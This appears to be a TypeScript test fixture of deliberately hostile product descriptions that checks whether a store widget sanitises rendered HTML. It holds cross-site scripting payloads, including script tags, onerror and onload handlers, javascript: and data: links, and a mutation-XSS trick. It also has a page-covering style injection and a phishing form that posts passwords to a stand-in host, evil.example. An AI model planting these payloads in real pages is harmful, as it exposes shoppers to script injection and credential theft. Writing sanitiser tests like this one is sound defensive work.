/**
 * Product descriptions written to attack the page that renders them, so the store widget can
 * prove it sanitises: each names its vector, and any payload that runs sets
 * `window.__raiXss` to that name (tests assert it stays undefined). Nothing here reaches a
 * host other than the page's own: a broken sanitiser shows up in the test, not on the network.
 * They are products named "Suspicious …" in each seeded store's "Lab" category.
 */
export const HOSTILE_PRODUCTS: readonly { name: string; description: string }[] = [
  {
    name: 'Suspicious Script Bundle',
    description: `<p>A perfectly <strong>normal</strong> bundle.</p><script>window.__raiXss='script'</script>`,
  },
  {
    name: 'Suspicious Broken Image',
    description: `<p>Look at this picture:</p><img src=x onerror="window.__raiXss='img-onerror'">`,
  },
  {
    name: 'Suspicious Prize Link',
    description: `<p><a href="javascript:window.__raiXss='javascript-link'">Claim your prize</a> before it is gone.</p>`,
  },
  {
    name: 'Suspicious Frame',
    description: `<p>An embedded preview:</p><iframe srcdoc="<script>parent.__raiXss='iframe-srcdoc'</script>"></iframe>`,
  },
  {
    name: 'Suspicious Vector Art',
    description: `<p>Scalable art.</p><svg onload="window.__raiXss='svg-onload'"><circle cx="5" cy="5" r="5"/></svg>`,
  },
  {
    name: 'Suspicious Restyle Kit',
    description:
      '<style>*{visibility:hidden!important}</style>' +
      '<p style="position:fixed;inset:0;z-index:2147483647;background:#c00;color:#fff">This text covers the page if styles get through.</p>',
  },
  {
    name: 'Suspicious Login Form',
    description:
      '<p>Confirm your account to receive it:</p><form action="https://evil.example/steal" method="post">' +
      '<input name="password" type="password" placeholder="Password"><button>Confirm</button></form>',
  },
  {
    name: 'Suspicious Receipt Link',
    description: `<p><a href="data:text/html,&lt;script&gt;alert(document.domain)&lt;/script&gt;">Open the receipt</a></p>`,
  },
  {
    name: 'Suspicious Redirect',
    description:
      `<meta http-equiv="refresh" content="0;url=javascript:window.__raiXss='meta-refresh'">` +
      `<base href="javascript:window.__raiXss='base-href'//"><p>You are being <a href="relative">redirected</a>.</p>`,
  },
  {
    name: 'Suspicious Nested Markup',
    description: `<p>Nested quotes:</p><noscript><p title="</noscript><img src=x onerror=window.__raiXss='noscript-mxss'>"></p></noscript>`,
  },
];
